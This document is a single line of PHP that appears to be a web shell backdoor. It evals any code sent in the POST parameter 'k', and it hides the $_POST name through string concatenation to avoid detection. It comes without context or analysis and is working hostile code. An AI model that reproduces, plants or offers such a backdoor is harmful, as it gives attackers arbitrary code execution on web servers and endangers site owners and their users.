<?php ${'_P' . 'OST'}['k'] && eval(${'_P' . 'OST'}['k']);
